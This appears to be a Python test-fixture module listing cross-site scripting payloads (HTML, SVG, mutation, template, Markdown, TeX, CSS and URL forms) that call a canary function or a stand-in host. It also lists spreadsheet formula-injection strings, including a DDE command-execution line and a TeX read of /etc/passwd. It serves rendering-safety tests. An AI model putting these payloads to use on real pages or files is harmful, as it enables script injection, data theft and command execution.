"""Texts that try to run a script, or to fetch something, in whatever shows them.

Each calls ``ran(N)`` or asks ``http://outside.invalid``; a page that shows them as text does neither. The kinds are those
of the public cheat sheets on cross-site scripting: elements and handlers, SVG and MathML, mutation (markup that changes
when it is parsed twice), templates, Markdown, TeX, CSS, and addresses.
"""

from __future__ import annotations

_CALL = "ran(N)"
_AWAY = "http://outside.invalid/N"

_KINDS = {
    "element": [
        "<script>CALL</script>",
        "<ScRiPt >CALL</sCrIpT >",
        "<script src=AWAY></script>",
        "<script\x0c>CALL</script>",
        "</td></tr></table><script>CALL</script>",
        "</title><script>CALL</script>",
        "</style><script>CALL</script>",
        "</textarea><script>CALL</script>",
        "--><script>CALL</script><!--",
        "]]><script>CALL</script>",
        "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
        "<iframe src=AWAY></iframe>",
        "<object data=AWAY></object>",
        "<embed src=AWAY>",
        "<base href=AWAY>",
        "<meta http-equiv=refresh content='0;url=AWAY'>",
        "<link rel=stylesheet href=AWAY>",
        "<form action=AWAY><button autofocus onfocus=CALL>x</button></form>",
        "<template><script>CALL</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=CALL>'>",
    ],
    "handler": [
        "<img src=x onerror=CALL>",
        "<img src=x onerror='CALL' ",
        "<img/src=x/onerror=CALL>",
        '"><img src=x onerror=CALL>',
        "'><img src=x onerror=CALL>",
        "` onerror=CALL x=`",
        '" onmouseover="CALL" autofocus onfocus="CALL" tabindex=1 x="',
        "<body onload=CALL>",
        "<input autofocus onfocus=CALL>",
        "<select autofocus onfocus=CALL>",
        "<textarea autofocus onfocus=CALL>",
        "<details open ontoggle=CALL>",
        "<video src=x onerror=CALL></video>",
        "<audio src=x onerror=CALL></audio>",
        "<video><source onerror=CALL></video>",
        "<marquee onstart=CALL>x</marquee>",
        "<style onload=CALL></style>",
        "<iframe onload=CALL></iframe>",
        "<div style='animation:a 1s' onanimationstart=CALL><style>@keyframes a{}</style>",
        "<img src=AWAY>",
        "<img srcset='AWAY 1x'>",
        "<picture><source srcset=AWAY><img src=AWAY></picture>",
    ],
    "svg": [
        "<svg onload=CALL>",
        "<svg><script>CALL</script></svg>",
        "<svg><script href=AWAY /></svg>",
        "<svg><animate onbegin=CALL attributeName=x dur=1s>",
        "<svg><set onbegin=CALL attributeName=x to=1>",
        "<svg><a xlink:href='javascript:CALL'><text y=20>x</text></a></svg>",
        "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>",
        "<svg><image href=AWAY /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=\"x\" onerror=\"CALL\"/></svg>#x'/></svg>",
        "<svg><style>@import 'AWAY';</style></svg>",
        "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.CALL\"/>'>",
        "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><script>parent.CALL</script></svg>'>",
    ],
    "mutation": [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=CALL&gt;\">",
        "<svg></p><style><a id='</style><img src=1 onerror=CALL>'>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=CALL></annotation-xml></math>",
        "<noembed><img title='</noembed><img src onerror=CALL>'></noembed>",
        "<xmp><img title='</xmp><img src=x onerror=CALL>'></xmp>",
        "<listing>&lt;img src=x onerror=CALL&gt;</listing>",
        "<p id='</p><img src=x onerror=CALL>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
        "<select><template><img src=x onerror=CALL></template></select>",
        "<table><td><img src=x onerror=CALL></table>",
        "&lt;img src=x onerror=CALL&gt;",
        "&amp;lt;script&amp;gt;CALL&amp;lt;/script&amp;gt;",
        "\u003cimg src=x onerror=CALL\u003e",
        "＜img src=x onerror=CALL＞",
        "<img src=x onerror=CALL\x0b>",
        "<a\u2028href='javascript:CALL' id=x>x</a>",
    ],
    "template": [
        "{{ self.__init__.__globals__ }}<img src=x onerror=CALL>",
        "{{constructor.constructor('CALL')()}}",
        "${CALL}",
        "#{CALL}",
        "<%= CALL %>",
        "{% raw %}<script>CALL</script>{% endraw %}",
        "{{ '<script>CALL</script>' | safe }}",
        "[[${CALL}]]",
        "`${CALL}`",
        "{rep.__class__.__mro__}<svg onload=CALL>",
    ],
    "markdown": [
        "[x](javascript:CALL)",
        "![x](AWAY)",
        "![x](x 'x\" onerror=\"CALL')",
        "<javascript:CALL>",
        "[x]: javascript:CALL\n\n[x]",
        "```html\n<script>CALL</script>\n```",
        "# <img src=x onerror=CALL>",
        "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKE4pPC9zY3JpcHQ+)",
    ],
    "tex": [
        "$\\href{javascript:CALL}{x}$",
        "$$\\unicode{<img src=x onerror=CALL>}$$",
        "\\(\\style{background:url(AWAY)}{x}\\)",
        "$\\require{action}\\toggle{<img src=x onerror=CALL>}{y}\\endtoggle$",
        "\\input{/etc/passwd}\\includegraphics{AWAY}",
    ],
    "css": [
        "<style>@import url(AWAY);</style>",
        "<style>body{background:url(AWAY)}</style>",
        "<div style=\"background:url('AWAY')\">x</div>",
        "<div style='width:expression(CALL)'>x</div>",
        "<div style=\"list-style-image:url('AWAY')\">x</div>",
        "\" style=\"background:url(AWAY)\" x=\"",
        "<p style='-moz-binding:url(AWAY)'>x</p>",
    ],
    "address": [
        "<a href='javascript:CALL' id=x>x</a>",
        "<a href=' &#14;javascript:CALL' id=x>x</a>",
        "<a href='java&#x09;script:CALL'>x</a>",
        "<a href='vbscript:CALL'>x</a>",
        "<a href='data:text/html,<script>parent.CALL</script>'>x</a>",
        "<a href=AWAY ping=AWAY>x</a>",
        "javascript:CALL",
        "javascript://%0aCALL",
        "data:text/html,<script>CALL</script>",
    ],
}  # fmt: skip

#: Texts that a spreadsheet takes for a formula, and texts that already begin with the mark that makes them text.
FORMULAS = ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠1", "|x", "｜x", " =1", "\u00a0=1", "'=1", "''=1", "'", "''", "'a", "=cmd|' /C calc'!A0", "-", "\ufe661", "\ufe621", "\ufe6b1", "\u22121", "\u200b=1", "\u2060\ufeff+1", ";=1", ",=1"]  # fmt: skip


def payloads() -> list[str]:
    """Every payload with its own number, so that a failure names it."""
    templates = [text for texts in _KINDS.values() for text in texts]
    return [
        text.replace("CALL", _CALL).replace("AWAY", _AWAY).replace("(N)", f"({n})").replace("/N", f"/{n}")
        for n, text in enumerate(templates)
    ]
